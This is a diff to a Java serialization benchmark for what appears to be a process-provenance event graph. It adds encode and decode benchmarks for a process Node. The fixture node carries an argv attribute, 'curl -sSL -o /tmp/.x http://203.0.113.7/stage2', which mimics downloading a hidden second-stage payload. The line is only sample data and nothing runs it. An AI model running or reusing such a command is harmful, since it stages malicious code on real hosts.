@@ -3,6 +3,8 @@ package dev.whence.bench;
 import dev.whence.avro.Edge;
 import dev.whence.avro.Event;
 import dev.whence.avro.EventObject;
+import dev.whence.avro.Node;
+import dev.whence.avro.NodeKind;
 import dev.whence.avro.ObjectKind;
 import dev.whence.avro.Operation;
 import dev.whence.avro.SourceKind;
@@ -49,6 +51,9 @@ public class SerdeBenchmark {
   private AvroSerde<Edge> edgeSerde;
   private Edge edge;
   private byte[] encodedEdge;
+  private AvroSerde<Node> nodeSerde;
+  private Node node;
+  private byte[] encodedNode;
 
   /** Builds the serde, the event and its encoding. */
   @Setup
@@ -65,6 +70,9 @@ public class SerdeBenchmark {
     edgeSerde = new AvroSerde<>(Edge.class);
     edge = plainEdge();
     encodedEdge = edgeSerde.encode(edge);
+    nodeSerde = new AvroSerde<>(Node.class);
+    node = processNode();
+    encodedNode = nodeSerde.encode(node);
   }
 
   /** Encodes the event to single-object bytes. */
@@ -104,6 +112,37 @@ public class SerdeBenchmark {
   @Benchmark
   public Edge decodeSmallEdge() {
     return edgeSerde.decode(encodedEdge);
+  }
+
+  /** Encodes a process node with its attributes, as the topology emits one per new process. */
+  @Benchmark
+  public byte[] encodeProcessNode() {
+    return nodeSerde.encode(node);
+  }
+
+  /** Decodes the process node. */
+  @Benchmark
+  public Node decodeProcessNode() {
+    return nodeSerde.decode(encodedNode);
+  }
+
+  private static Node processNode() {
+    return Node.newBuilder()
+        .setId("5c2d8e1f-7a3b-5d4c-9e8f-0a1b2c3d4e5f")
+        .setEntityId("1e2f3a4b-5c6d-5e7f-8a9b-0c1d2e3f4a5b")
+        .setKind(NodeKind.PROCESS)
+        .setHost("web-01")
+        .setName("/usr/bin/curl")
+        .setFirstSeenNanos(1_764_236_400_123_456_789L)
+        .setLastSeenNanos(1_764_236_400_223_456_789L)
+        .setAttributes(
+            Map.of(
+                "pid", "4242",
+                "ppid", "4200",
+                "uid", "1000",
+                "argv", "curl -sSL -o /tmp/.x http://203.0.113.7/stage2",
+                "cwd", "/home/alice/projects"))
+        .build();
   }
 
   private static Edge plainEdge() {
